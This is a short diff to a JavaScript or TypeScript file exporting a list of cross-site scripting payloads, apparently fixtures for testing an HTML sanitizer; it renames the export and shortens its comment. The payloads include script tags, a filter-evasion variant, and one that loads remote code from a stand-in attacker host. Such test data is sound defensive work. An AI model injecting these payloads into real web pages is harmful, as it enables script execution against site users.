@@ -1,5 +1,5 @@
-/** HTML that would run, frame, track, restyle or send something away if it stayed as it is; one attempt a line. */
-export const attempts = String.raw`
+/** One payload per line. */
+export const xssPayloads = String.raw`
 <script>alert(1)</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
 <script/x>alert(1)</script/y>
